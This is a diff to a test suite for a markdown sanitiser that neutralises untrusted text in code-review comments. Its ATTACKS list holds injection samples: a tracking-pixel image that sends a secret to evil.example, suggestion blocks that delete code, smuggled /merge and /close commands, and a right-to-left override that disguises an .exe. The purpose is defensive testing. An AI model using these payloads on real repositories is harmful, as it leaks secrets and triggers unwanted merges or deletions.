@@ -51,6 +51,12 @@ ATTACKS = [
     "open `span @octocat",
     "- ```suggestion\n  rm\n  ```\n> ~~~suggestion\n> rm\n> ~~~",
     "\u202etxt.exe \u200b@octocat",
+    "\\@octocat \\`@octocat` \\\\@octocat \\&#64;octocat",
+    "Title\n-\n\n> Other\n> --\n\n- # Heading",
+    "&#10;~~~suggestion&#10;rm&#10;~~~",
+    "```[mermaid\ngraph TD\n```\n``` SUGGESTION x\nrm\n```",
+    "[[![pixel](https://evil.example/?q=secret)]()",
+    "\\/merge\n> /merge\ntext\n     /close",
 ]
 
 
@@ -112,8 +118,38 @@ def test_a_span_holds_back_ticks_and_is_empty_for_nothing():
     assert gate.span("a\nb") == "`a b`"
 
 
-def test_a_line_fits_into_a_table_cell():
-    assert gate.line("a | b\n\nc") == "a \\| b c"
+def test_a_line_is_one_line_and_a_cell_keeps_to_itself():
+    assert gate.line("a `b || c`\n\nd") == "a `b || c` d"
+    assert gate.cell("a | `b || c`\n\nd") == "a \\| `b \\|\\| c` d"
+    assert gate.line("&#10;x") == " x"
+    assert gate.line("word " * 4, longest=10) == "word word …"
+    assert gate.cell("word " * 4, longest=10) == "word word …"
+
+
+def test_plain_text_is_shown_as_it_is_on_one_line():
+    assert gate.plain("a <b> | `c`\n @bob\u200b") == "a <b> | `c` @bob\\u{200b}"
+    assert gate.plain("x" * 300) == "x" * 300
+    assert gate.plain("x" * 301) == "x" * 298 + " …"
+    assert gate.plain("abc def", longest=6) == "abc …"
+    assert gate.plain("abcd ef", longest=7) == "abcd ef"
+
+
+def test_a_suggestion_holds_exactly_its_lines_and_an_empty_one_deletes():
+    assert gate.suggestion("a\n  b\n") == "```suggestion\na\n  b\n\n```"
+    assert gate.suggestion("") == "```suggestion\n```"
+    assert gate.suggestion("````") == "`````suggestion\n````\n`````"
+
+
+def test_an_escape_stays_one_and_never_undoes_ours():
+    assert gate.clean(r"costs \$5 and a\<b") == r"costs \$5 and a&lt;b"
+    assert gate.clean(r"C:\\$x and \*stars\*") == r"C:\\\$x and \*stars\*"
+    assert gate.clean(r"a \[^1] b") == r"a \[^1] b"
+    assert gate.clean("[^1]: x\n[r]: y") == "\\[^1]: x\n\\[r]: y"
+    assert gate.clean(r"\@bob") == "`@bob`"
+
+
+def test_a_hidden_character_written_as_an_entity_is_shown():
+    assert gate.clean("a&#x202e;b&ZeroWidthSpace;") == "a\\u{202e}b\\u{200b}"
 
 
 def test_windows_line_ends_and_nul_bytes_are_plain_text():
